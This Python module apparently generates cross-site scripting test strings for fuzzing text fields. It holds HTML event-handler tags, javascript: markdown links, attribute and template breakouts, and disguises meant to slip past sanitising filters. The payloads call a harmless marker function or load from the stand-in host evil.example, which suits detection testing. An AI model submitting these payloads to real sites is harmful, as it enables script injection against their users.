"""Texts that try to become more than text: one list for every field that people fill.

Each would, where it worked, call `pwned()`, open a dialog, or ask the host `evil.example` for something: a window
notices all three. They are made of ways in and disguises (what filters are known to overlook).
"""

from collections.abc import Iterator, Sequence
from itertools import product

CALL = "pwned()"
_TAGS = [
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    "<svg onload={c}>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<input autofocus onfocus={c}>",
    "<iframe srcdoc='&lt;script&gt;parent.{c}&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:parent.{c}></iframe>",
    "<object data=javascript:{c}></object>",
    "<embed src=javascript:{c}>",
    "<form><button formaction=javascript:{c}>x</button></form>",
    "<a href=javascript:{c}>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    "<svg><style><img src=x onerror={c}></style></svg>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<img src=//evil.example/x.png>",
    "<style>@import'//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<fm-stance onclick={c}>x</fm-stance>",
]
_MARKDOWN = [
    "[x](javascript:{c})",
    "[x](JaVaScRiPt:{c})",
    "[x](java\tscript:{c})",
    "[x](&#106;avascript:{c})",
    "[x](data:text/html,<script>{c}</script>)",
    "[x](vbscript:{c})",
    "![x](//evil.example/x.png)",
    '![x](x"onerror="{c})',
    '[x](https://a.example/"onmouseover="{c})',
    "<javascript:{c}>",
    "[x]: javascript:{c}\n\n[x]",
    "`</code><img src=x onerror={c}>`",
    "> <img src=x onerror={c}>",
    "* <svg onload={c}>",
    "**<img src=x onerror={c}>**",
    "&lt;img src=x onerror={c}&gt;",
    "\\<img src=x onerror={c}>",
]
_BREAKS = [
    '"><img src=x onerror={c}>',
    "'><img src=x onerror={c}>",
    '" autofocus onfocus={c} x="',
    "' onmouseover={c} x='",
    "</textarea><img src=x onerror={c}>",
    "</title><svg onload={c}>",
    "</script><script>{c}</script>",
    "--><img src=x onerror={c}>",
    "]]><img src=x onerror={c}>",
    "${{{c}}}",
    "{{{{{c}}}}}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "<!--lit-part--><img src=x onerror={c}>",
    "<?lit$1$?><img src=x onerror={c}>",
    "%3Cimg src=x onerror={c}%3E",
    "\\u003cimg src=x onerror={c}\\u003e",
    '=HYPERLINK("javascript:{c}")',
    "javascript:{c}",
]


def _disguises(text: str) -> Iterator[str]:
    """The text as it is, and in the ways that filters are known to overlook."""
    yield text
    if "<" in text:
        yield text.replace("<", "<\x0c", 1)
        yield text.replace("<", "<<", 1)
        yield text.swapcase().replace(CALL.swapcase(), CALL)
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace(" on", "/on").replace("src=x", "src=x/**/")
        yield text.removesuffix(">")


def payloads() -> list[str]:
    """All of them, each once."""
    ways = [way.format(c=CALL) for way in (*_TAGS, *_MARKDOWN, *_BREAKS)]
    made = [disguised for way in ways for disguised in _disguises(way)]
    carriers = (("{}", "a {} b"), ("<svg onload=pwned()>", "<img src=x onerror=pwned()>"))
    made += [carrier.format(way) for carrier, way in product(*carriers)]
    return list(dict.fromkeys(made))


def fitting(length: int) -> list[str]:
    """Those that a short field takes."""
    return [payload for payload in payloads() if len(payload.strip()) <= length]


def joined(length: int, said: Sequence[str] | None = None) -> list[str]:
    """All of them (or these) in as few texts as a field of this length needs, a paragraph each."""
    texts = [""]
    for payload in payloads() if said is None else said:
        if len(texts[-1]) + len(payload) + 2 > length:
            texts.append("")
        texts[-1] += f"{payload}\n\n"
    return [text.strip() for text in texts]
